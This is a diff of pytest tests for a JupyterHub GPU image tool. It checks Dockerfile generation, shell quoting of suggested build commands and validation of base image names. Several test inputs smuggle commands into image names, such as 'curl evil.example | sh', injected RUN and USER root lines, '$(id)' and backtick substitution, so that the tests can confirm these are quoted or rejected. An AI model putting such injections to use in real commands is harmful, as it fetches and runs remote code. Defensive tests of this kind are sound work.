@@ -5,12 +5,25 @@ import shlex
 import pytest
 
 from jupyter_gpuspawn import __version__, cli, images
-from jupyter_gpuspawn.images import (ENTRYPOINT, assess_labels, build_command, check_image_reference, dockerfile,
-                                     probe_singleuser, version_mismatch)
+from jupyter_gpuspawn.images import (
+    ENTRYPOINT,
+    assess_labels,
+    build_command,
+    check_image_reference,
+    dockerfile,
+    probe_singleuser,
+    version_mismatch,
+)
 
 
-@pytest.mark.parametrize("base", ["continuumio/miniconda3:24.7.1-0", "nvcr.io/nvidia/pytorch:24.08-py3",
-                                  "nvidia/cuda:12.4.1-runtime-ubuntu22.04"])
+@pytest.mark.parametrize(
+    "base",
+    [
+        "continuumio/miniconda3:24.7.1-0",
+        "nvcr.io/nvidia/pytorch:24.08-py3",
+        "nvidia/cuda:12.4.1-runtime-ubuntu22.04",
+    ],
+)
 def test_dockerfile_pins_jupyterhub_and_sets_the_entrypoint(base):
     text = dockerfile(base, "6.1.1", wheel_name="jupyter_gpuspawn-0.1.0-py3-none-any.whl")
     assert text.splitlines()[1] == f"FROM {base}"
@@ -38,15 +51,27 @@ def test_entrypoint_never_needs_root_and_sanitises_the_name():
 
 
 def test_build_command_suggests_a_local_tag():
-    assert build_command("nvcr.io/nvidia/pytorch:24.08-py3") == \
-        "jupyter-gpuspawn build-image --base nvcr.io/nvidia/pytorch:24.08-py3 --tag local/pytorch-hub:24.08-py3"
+    assert (
+        build_command("nvcr.io/nvidia/pytorch:24.08-py3")
+        == "jupyter-gpuspawn build-image --base nvcr.io/nvidia/pytorch:24.08-py3 "
+        "--tag local/pytorch-hub:24.08-py3"
+    )
     assert build_command("ubuntu").endswith("--tag local/ubuntu-hub:latest")
 
 
 def test_readiness_from_labels():
-    ready = assess_labels("x", {"Config": {"Labels": {"org.jupyter.gpuspawn.ready": "0.1.0",
-                                                      "org.jupyter.gpuspawn.jupyterhub-version": "5.2.1"}},
-                                "Size": 10})
+    ready = assess_labels(
+        "x",
+        {
+            "Config": {
+                "Labels": {
+                    "org.jupyter.gpuspawn.ready": "0.1.0",
+                    "org.jupyter.gpuspawn.jupyterhub-version": "5.2.1",
+                }
+            },
+            "Size": 10,
+        },
+    )
     assert ready.ready and ready.jupyterhub_version == "5.2.1" and ready.size == 10
     assert not assess_labels("x", {"Config": {"Labels": None}}).ready
 
@@ -66,9 +91,10 @@ def test_install_python_only_when_asked():
 
 def test_slow_iri_validator_is_dropped_from_the_venv_unless_kept():
     default = dockerfile("python:3.12-slim", "6.1.1", wheel_name="w.whl")
-    assert "/opt/jupyter-gpuspawn/*) if [ \"0\" = 0 ]; then $PIP uninstall -y -q rfc3987-syntax" in default
+    assert '/opt/jupyter-gpuspawn/*) if [ "0" = 0 ]; then' in default
+    assert "$PIP uninstall -y -q rfc3987-syntax" in default
     kept = dockerfile("python:3.12-slim", "6.1.1", wheel_name="w.whl", keep_rfc3987_syntax=True)
-    assert "/opt/jupyter-gpuspawn/*) if [ \"1\" = 0 ]" in kept
+    assert '/opt/jupyter-gpuspawn/*) if [ "1" = 0 ]' in kept
     # only the venv's copy is ever removed; a base's own copy is reported, never touched
     assert "note: the base's own rfc3987-syntax" in default
 
@@ -76,21 +102,53 @@ def test_slow_iri_validator_is_dropped_from_the_venv_unless_kept():
 def test_build_command_quotes_what_it_prints():
     hostile = "local/x:1; curl evil.example | sh"
     command = build_command(hostile)
-    assert shlex.split(command) == ["jupyter-gpuspawn", "build-image", "--base", hostile,
-                                    "--tag", "local/x-hub:1; curl evil.example | sh"]
-    assert command.startswith("jupyter-gpuspawn build-image --base 'local/x:1; curl evil.example | sh' --tag ")
+    assert shlex.split(command) == [
+        "jupyter-gpuspawn",
+        "build-image",
+        "--base",
+        hostile,
+        "--tag",
+        "local/x-hub:1; curl evil.example | sh",
+    ]
+    assert command.startswith(
+        "jupyter-gpuspawn build-image --base 'local/x:1; curl evil.example | sh' --tag "
+    )
     digest = "nvcr.io/nvidia/pytorch@sha256:" + "a" * 64
     assert shlex.split(build_command(digest))[-1] == "local/pytorch-hub:latest"
 
 
-GOOD_BASES = ["python:3.12-slim", "nvcr.io/nvidia/pytorch:24.08-py3", "localhost:5000/team/img:1.0",
-              "continuumio/miniconda3:24.7.1-0", "nvidia/cuda:12.4.1-runtime-ubuntu22.04", "ubuntu",
-              "local/base:bookworm", "my-registry.example.com/a/b__c/d-e:latest",
-              "python@sha256:" + "0123456789abcdef" * 4, "quay.io/jupyter/base-notebook:2024-12-02@sha256:" + "f" * 64]
-BAD_BASES = ["python:3.12\nRUN curl evil.example | sh", "python:3.12\r\nUSER root", "python:3.12 AS builder",
-             "", " python", "python:3.12 ", "Python:3.12", "$(id)", "python:`id`", 'python:3"; echo x; "',
-             "--network=host", "python:3.12#x", "python:" + "t" * 200, "pythön:3", "a//b", "python:3.12\x00",
-             "${BASE}", "python@sha256:abc"]
+GOOD_BASES = [
+    "python:3.12-slim",
+    "nvcr.io/nvidia/pytorch:24.08-py3",
+    "localhost:5000/team/img:1.0",
+    "continuumio/miniconda3:24.7.1-0",
+    "nvidia/cuda:12.4.1-runtime-ubuntu22.04",
+    "ubuntu",
+    "local/base:bookworm",
+    "my-registry.example.com/a/b__c/d-e:latest",
+    "python@sha256:" + "0123456789abcdef" * 4,
+    "quay.io/jupyter/base-notebook:2024-12-02@sha256:" + "f" * 64,
+]
+BAD_BASES = [
+    "python:3.12\nRUN curl evil.example | sh",
+    "python:3.12\r\nUSER root",
+    "python:3.12 AS builder",
+    "",
+    " python",
+    "python:3.12 ",
+    "Python:3.12",
+    "$(id)",
+    "python:`id`",
+    'python:3"; echo x; "',
+    "--network=host",
+    "python:3.12#x",
+    "python:" + "t" * 200,
+    "pythön:3",
+    "a//b",
+    "python:3.12\x00",
+    "${BASE}",
+    "python@sha256:abc",
+]
 
 
 @pytest.mark.parametrize("base", GOOD_BASES)
@@ -126,8 +184,8 @@ def test_dockerfile_refuses_odd_wheel_names_and_versions():
 
 
 class RecordingClient:
-    """The docker-py APIClient calls probe_singleuser makes, recorded; host configs are built by the real
-    docker-py (so the kwargs must be ones it accepts), nothing reaches an engine."""
+    """The docker-py APIClient calls probe_singleuser makes, recorded; host configs are built by the
+    real docker-py (so the kwargs must be ones it accepts), nothing reaches an engine."""
 
     def __init__(self, start_error=None, wait_error=None, status=0):
         import docker
@@ -182,7 +240,9 @@ def test_the_image_probe_container_is_removed_however_it_ends(failure):
     import docker
 
     client = RecordingClient(
-        start_error=docker.errors.APIError("cannot start: exec format error") if failure == "start" else None,
+        start_error=docker.errors.APIError("cannot start: exec format error")
+        if failure == "start"
+        else None,
         wait_error=TimeoutError("read timed out") if failure == "wait" else None,
         status=127 if failure == "status" else 0,
     )
